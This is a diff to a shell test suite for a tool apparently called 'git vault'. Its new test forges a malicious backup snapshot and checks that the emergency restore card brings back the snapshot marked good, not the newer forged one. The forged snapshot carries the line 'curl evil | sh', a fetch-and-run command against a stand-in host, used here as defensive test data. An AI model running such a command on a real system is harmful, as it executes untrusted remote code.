@@ -66,7 +66,7 @@ test_expect_success BARE_ROOT 'carried out literally, it brings files and secret
 	ln -s "$(command -v git)" "$root$core/git-upload-pack" &&
 	mkdir -p "$root$PWD" && cp -R ../remote.git "$root$PWD/.." &&
 	cp "$HOME/.config/git-vault/identity" "$root/home/identity" &&
-	{ echo "set -e" && sed -n "/^1\. /,/^4\. /s/^	//p" ../card; } >"$root/home/card.sh" &&
+	{ echo "set -e" && sed -n "/^1\. /,/^5\. /s/^	//p" ../card; } >"$root/home/card.sh" &&
 	test_file_not_empty "$root/home/card.sh" &&
 	in_root >../said 2>&1 &&
 	for file in .gitignore .gitattributes live/prod/.env "live/prod/a b/app.yaml" live/prod/run
@@ -95,9 +95,25 @@ forge () {
 
 test_expect_success AGE 'a forged snapshot gets nothing out of the directory, nor into its .git' '
 	one=$(forge) && git push -q origin "$one:refs/vault/snapshots/99991231T235959Z-deadbeef" && mkdir ../w ../away &&
-	sed -n "/^1\. /,/^4\. /s/^	//p" ../card >../cmds && cp "$HOME/.config/git-vault/identity" "$HOME/identity" &&
+	sed -n "/^1\. /,/^5\. /s/^	//p" ../card | sed "s/^S=.GOOD/S=\$NEW/" >../cmds && cp "$HOME/.config/git-vault/identity" "$HOME/identity" &&
 	(cd ../w && sh ../cmds >../said 2>&1) && test_path_is_dir ../w/out/.git && test "$(grep -c "^left out:" ../said)" = 5 &&
 	test -z "$(ls ../away)" && test_path_is_missing ../w/profile ../w/out/.GIT && ! grep forged ../w/out/.git/config &&
+	git push -q origin :refs/vault/snapshots/99991231T235959Z-deadbeef
+'
+
+test_expect_success AGE 'it brings back what is known to be good, though another one is newer' '
+	git vault -q good mark prod && good=$(git for-each-ref --format="%(refname:lstrip=3)" refs/vault/snapshots | tail -1) &&
+	commit=$(git rev-parse "refs/vault/snapshots/$good") && git vault -q sync && git vault emergency-card >../card 2>../err &&
+	test_grep "^	prod .*$good record 1" ../card && test_grep "^	GOOD=$commit" ../card && test_must_be_empty ../err &&
+	test_grep "Anybody who can push can make the newest" ../card &&
+	tree=$(printf "100755 blob %s\trun\n" "$(echo "curl evil | sh" | git hash-object -w --stdin)" | git mktree) &&
+	evil=$(printf "040000 tree %s\ttree\n" "$tree" | git mktree) &&
+	evil=$(GIT_COMMITTER_DATE="@4102444800 +0000" git commit-tree -m x "$evil") &&
+	git push -q origin "$evil:refs/vault/snapshots/99991231T235959Z-deadbeef" &&
+	sed -n "/^1\. /,/^5\. /s/^	//p" ../card >../cmds && rm -rf ../w && mkdir ../w && (cd ../w && sh ../cmds >../said 2>&1) &&
+	cmp live/prod/run ../w/out/live/prod/run && cmp live/prod/.env ../w/out/live/prod/.env &&
+	test_grep "^$evil" ../said && test_grep "tree/live/prod/run" ../said && git vault --json emergency-card >../json &&
+	test_grep "\"environment\":\"prod\",\"record\":1,\"snapshot\":\"$good\",\"commit\":\"$commit\"" ../json &&
 	git push -q origin :refs/vault/snapshots/99991231T235959Z-deadbeef
 '
 
@@ -108,7 +124,7 @@ test_expect_success 'as a document; a key that may only write opens nothing' '
 
 test_expect_success 'without a remote or a keyring it says so' '
 	git init -q ../empty && cd ../empty && git vault emergency-card >../card 2>../err &&
-	test_grep "there is no remote" ../err && test_grep "no keyring" ../card && test_grep "clone --mirror" ../card
+	test_grep "there is no remote" ../err && test_grep "no snapshot is known to be good" ../err && test_grep "no keyring" ../card && test_grep "clone --mirror" ../card
 '
 
 test_done
